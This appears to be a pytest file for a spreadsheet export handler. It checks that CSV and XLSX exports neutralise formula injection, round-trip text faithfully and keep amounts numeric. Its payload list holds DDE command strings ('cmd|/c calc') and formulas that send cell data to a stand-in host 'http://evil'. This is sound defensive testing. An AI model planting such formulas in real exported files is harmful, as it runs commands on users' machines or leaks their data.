"""F45: nothing that leaves the house runs in a spreadsheet, amounts stay numbers, and what comes back is what went out."""

import csv
import io
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest

from handlers.spreadsheets import spreadsheet_safe, write_csv, write_xlsx
from models.sheets.formula_guard import freed
from tests.support.workbooks import cells_of

SIGNS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
PAYLOADS = (
    *(f"{sign}cmd|'/c calc'!A1" for sign in SIGNS),
    '=HYPERLINK("http://evil/?"&A1,"点我")',
    "=1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+8613912345678",
    "-501",
    "--1",
    '=IMPORTXML("http://evil","//a")',
    "\0=1+1",
    "\x01\x02=1+1",
    "=",
    "-",
    "'=1+1",
    "''=1+1",
    "'''@x",
    "'139",
    "\r\n=1+1",
    "=" * 40_000,
)


def without_control(text: str) -> str:
    return text.translate(dict.fromkeys([*range(9), 11, 12, *range(14, 32)]))


@pytest.mark.parametrize("text", PAYLOADS)
def test_f45_what_would_run_is_guarded_in_every_format(text: str, tmp_path: Path) -> None:
    safe = spreadsheet_safe(text)
    assert safe.startswith("'")
    assert not safe.lstrip("'").startswith("\0")
    target = io.BytesIO()
    write_csv(["问题"], [[text]], target)
    (_, (read,)) = csv.reader(io.StringIO(target.getvalue().decode("utf-8-sig"), newline=""))
    assert read == safe
    path = tmp_path / "x.xlsx"
    with path.open("wb") as file:
        write_xlsx(["问题"], [[text]], file)
    cell = openpyxl.load_workbook(path).active["A2"]
    assert cell.data_type == "s"
    assert cell.value.startswith("'")


@pytest.mark.parametrize("text", [text for text in PAYLOADS if len(text) < 1000])
def test_f45_what_went_out_comes_back_as_it_was(text: str, tmp_path: Path) -> None:
    assert freed(spreadsheet_safe(text)) == without_control(text)
    path = tmp_path / "1栋.csv"
    with path.open("wb") as file:
        write_csv(["房号", "备注"], [["501", text]], file)
    assert cells_of(path)["B2"].value == without_control(text)
    path = tmp_path / "x.xlsx"
    with path.open("wb") as file:
        write_xlsx(["房号", "备注"], [["501", text]], file)
    came = cells_of(path)["B2"].value
    assert isinstance(came, str)
    assert came.replace("\r\n", "\n").replace("\r", "\n") == without_control(text).replace("\r\n", "\n").replace(
        "\r", "\n"
    )  # XML knows one kind of line break


@pytest.mark.parametrize("value", [-5, 0, 165, Decimal("-165.33"), Decimal("0.01"), None])
def test_f45_amounts_stay_numbers(value: object, tmp_path: Path) -> None:
    assert spreadsheet_safe(value) == value
    path = tmp_path / "x.xlsx"
    with path.open("wb") as file:
        write_xlsx(["金额"], [[value]], file)
    cell = openpyxl.load_workbook(path).active["A2"]
    assert (cell.data_type, cell.value) == ("n", float(value) if isinstance(value, Decimal) else value)


@pytest.mark.parametrize("text", ["厨房水管漏水", "3-2-501", "O'Neil", "'张三'", "", " =1", "１６５", "a=b"])
def test_f45_everything_else_stays_as_it_is(text: str) -> None:
    assert spreadsheet_safe(text) == text
    assert freed(text) == text
